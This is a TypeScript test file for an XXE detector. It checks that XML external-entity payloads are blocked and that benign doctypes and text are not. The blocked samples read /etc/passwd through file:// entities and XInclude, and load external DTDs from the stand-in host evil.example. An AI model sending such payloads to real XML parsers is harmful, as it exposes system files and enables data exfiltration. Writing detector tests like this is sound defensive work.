import { describe, expect, it } from 'vitest';
import { BLOCKING_CONFIDENCE } from '../../src/core/detector.ts';
import type { Field } from '../../src/core/field.ts';
import { xxe } from '../../src/detectors/xxe.ts';
import { recognise } from '../support/field.ts';

type Row = [text: string, overrides: Partial<Field>];

const LOUD: Row[] = [
  ['<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', {}],
  ['<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>', {}],
  ['<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">]><lolz>&lol;</lolz>', {}],
  ['<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">', {}],
  ['<!DOCTYPE x PUBLIC "a" "http://evil.example/x.dtd">', {}],
  ['<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></a>', {}],
];

const QUIET: Row[] = [
  ['<!DOCTYPE html>', {}],
  ['<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">', {}],
  ['<!-- comment -->', {}],
  ['<a>1</a>', {}],
  ['<entity>text</entity>', {}],
  ['<![CDATA[text]]>', {}],
  ['an ENTITY of its own', {}],
  [
    'Version 2.50\n - Fix a crash when <!ENTITY x SYSTEM "file"> is read.\n - Support for xi:include in included files was added again.\n - Parse numbers with exponents as the standard says they are.\n - Test that the whole suite is run in the build.',
    {},
  ],
];

describe('xxe', () => {
  it.each(LOUD)('blocks %j', (text, overrides) => {
    expect(recognise(xxe, text, overrides)?.confidence ?? 0).toBeGreaterThanOrEqual(BLOCKING_CONFIDENCE);
  });
  it.each(QUIET)('does not block %j', (text, overrides) => {
    expect(recognise(xxe, text, overrides)?.confidence ?? 0).toBeLessThan(0.3);
  });
});
